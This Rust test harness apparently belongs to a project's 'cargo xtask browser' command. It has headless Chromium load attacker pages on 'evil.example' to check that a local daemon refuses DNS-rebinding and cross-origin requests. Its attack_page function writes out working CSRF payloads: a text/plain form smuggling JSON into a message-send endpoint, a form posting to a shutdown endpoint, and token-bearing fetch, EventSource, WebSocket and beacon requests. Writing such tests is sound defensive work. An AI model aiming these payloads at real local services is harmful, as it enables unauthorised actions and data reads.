//! `cargo xtask browser`: pages of an attacker in a real browser try to reach the daemon, and must
//! fail (S2).
//!
//! The first page has the attacker's host name, which resolves to the daemon's address, as in DNS
//! rebinding. The second page, on a site of its own, tries forms, requests with and without the
//! token, a stream and a websocket, and reports what it could read. The attacker even knows the
//! token; only the origin stops the requests. Chromium is installed with apt if it is missing.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::process::Command;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use anyhow::{Context, ensure};
use serde_json::{Value, json};

use crate::args::Args;
use crate::bench::http::connection::HttpConnection;
use crate::bench::start::{BenchDaemon, program_path};

const FOREIGN_HOST: &str = "evil.example";

pub(crate) fn run(args: &Args) -> anyhow::Result<bool> {
    let chromium = install()?;
    let scratch = args.scratch_dir()?;
    let root = scratch.path().canonicalize()?;
    let daemon = BenchDaemon::start(&program_path(args)?, &root)?;
    let card: Value = serde_json::from_slice(&std::fs::read(root.join("daemon.json"))?)?;
    let url = card["url"]
        .as_str()
        .context("no url")?
        .trim_end_matches('/')
        .to_owned();
    let address: std::net::SocketAddr = url.trim_start_matches("http://").parse()?;
    let token = std::fs::read_to_string(root.join("token"))?
        .trim()
        .to_owned();
    let mut line = HttpConnection::open(address, &token)?;
    let before = line.call_verb("msg.history", &json!({ "channel": "lake" }))?;
    let show = |page: &str| -> anyhow::Result<String> {
        let shown = Command::new(&chromium)
            .args([
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
                "--dump-dom",
            ])
            .args(["--virtual-time-budget=15000", "--timeout=30000"])
            .arg(format!(
                "--user-data-dir={}",
                root.join("browser").display()
            ))
            .arg(format!(
                "--host-resolver-rules=MAP {FOREIGN_HOST} 127.0.0.1"
            ))
            .arg(page)
            .env("HOME", &root)
            .output()
            .context("could not start chromium")?;
        Ok(String::from_utf8_lossy(&shown.stdout).into_owned())
    };
    // Show a page of the daemon first, to be sure that the browser works.
    let own = show(&format!("{url}/healthz"))?;
    ensure!(
        own.contains("ok"),
        "the browser shows nothing of the daemon itself: {own:?}"
    );
    let rebound = show(&format!("http://{FOREIGN_HOST}:{}/healthz", address.port()))?;
    println!(
        "after a rebinding it sees: {}",
        rebound.chars().take(200).collect::<String>()
    );
    ensure!(
        rebound.contains("foreign_host"),
        "a request after DNS rebinding was not refused: {rebound}"
    );

    let stranger = ForeignSite::open(&url, &token)?;
    show(&format!("http://{FOREIGN_HOST}:{}/", stranger.port))?;
    let told = stranger
        .reports
        .lock()
        .unwrap_or_else(PoisonError::into_inner)
        .clone();
    println!("the stranger's page could: {told:?}");
    ensure!(
        told.iter().any(|told| told == "done"),
        "the attacker's page did not finish: {told:?}"
    );
    let reached: Vec<&String> = told
        .iter()
        .filter(|told| told.starts_with("read "))
        .collect();
    let after = line.call_verb("msg.history", &json!({ "channel": "lake" }))?;
    daemon.kill()?;
    println!(
        "{}",
        if reached.is_empty() && before == after {
            "good: every attempt failed"
        } else {
            "an attempt succeeded"
        }
    );
    Ok(reached.is_empty() && before == after)
}

pub(crate) fn install() -> anyhow::Result<String> {
    let there = |name: &str| {
        Command::new(name)
            .arg("--version")
            .output()
            .is_ok_and(|output| output.status.success())
    };
    for name in ["chromium", "chromium-browser", "google-chrome"] {
        if there(name) {
            return Ok(name.into());
        }
    }
    let apt = Command::new("apt-get")
        .args(["install", "-y", "-q", "--no-install-recommends", "chromium"])
        .status();
    ensure!(
        apt.is_ok_and(|status| status.success()) && there("chromium"),
        "install chromium: apt-get install chromium"
    );
    Ok("chromium".into())
}

/// The attacker's site.
struct ForeignSite {
    port: u16,
    reports: Arc<Mutex<Vec<String>>>,
}

impl ForeignSite {
    fn open(url: &str, token: &str) -> anyhow::Result<ForeignSite> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let port = listener.local_addr()?.port();
        let told: Arc<Mutex<Vec<String>>> = Arc::default();
        let (page, heard) = (attack_page(url, token), told.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (page, heard) = (page.clone(), heard.clone());
                std::thread::spawn(move || answer_request(stream, &page, &heard));
            }
        });
        Ok(ForeignSite {
            port,
            reports: told,
        })
    }
}

fn answer_request(
    mut stream: std::net::TcpStream,
    page: &str,
    heard: &Mutex<Vec<String>>,
) -> std::io::Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(20)))?;
    let mut reader = BufReader::new(stream.try_clone()?);
    let (mut line, mut length, mut first) = (String::new(), 0, String::new());
    loop {
        line.clear();
        if reader.read_line(&mut line)? == 0 {
            return Ok(());
        }
        if first.is_empty() {
            first = line.clone();
        }
        if let Some(rest) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = rest.trim().parse().unwrap_or(0);
        }
        if line == "\r\n" {
            break;
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    let text = if first.starts_with("POST /told") {
        heard
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push(String::from_utf8_lossy(&body).into_owned());
        ""
    } else {
        page
    };
    let head = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: \
        {}\r\n\r\n",
        text.len()
    );
    stream.write_all(head.as_bytes())?;
    stream.write_all(text.as_bytes())
}

/// Returns a page that tries every kind of request.
fn attack_page(url: &str, token: &str) -> String {
    let message = r#"{"channel":"lake","text":"from a stranger"}"#;
    format!(
        r#"<!doctype html><title>x</title><iframe name=f></iframe>
<form id=a method=post target=f enctype=text/plain action="{url}/api/v1/msg.send"><input name='{{"channel":"lake","text":"' value='"}}'></form>
<form id=b method=post target=f action="{url}/api/v1/down"></form>
<script>
const tell = text => fetch('/told', {{ method: 'POST', body: text }});
const attempt = async (name, work) => {{
  const late = new Promise((_, no) => setTimeout(no, 3000));
  try {{ const it = await Promise.race([work(), late]); await tell((it === undefined ? 'sent ' : 'read ') + name + ' ' + it); }}
  catch (error) {{ await tell('failed ' + name); }}
}};
const verb = '{url}/api/v1/msg.send', body = '{message}';
(async () => {{
  document.getElementById('a').submit();
  document.getElementById('b').submit();
  await attempt('plain', async () => (await fetch(verb, {{ method: 'POST', body }})).status);
  await attempt('blind', async () => {{ await fetch(verb, {{ method: 'POST', body, mode: 'no-cors' }}); }});
  await attempt('token', async () => (await fetch(verb, {{ method: 'POST', body, headers: {{ authorization: 'Bearer {token}', 'content-type': 'application/json' }} }})).status);
  await attempt('page', async () => (await (await fetch('{url}/api/v1/openapi.json')).text()).length);
  await attempt('stream', () => new Promise((yes, no) => {{ const it = new EventSource('{url}/api/v1/events?after=0'); it.onopen = () => yes('open'); it.onerror = no; }}));
  await attempt('socket', () => new Promise((yes, no) => {{ const it = new WebSocket('{url}/api/v1/events'.replace('http', 'ws')); it.onopen = () => yes('open'); it.onerror = no; }}));
  await attempt('beacon', async () => {{ navigator.sendBeacon(verb, body); }});
  await tell('done');
}})();
</script>"#
    )
}
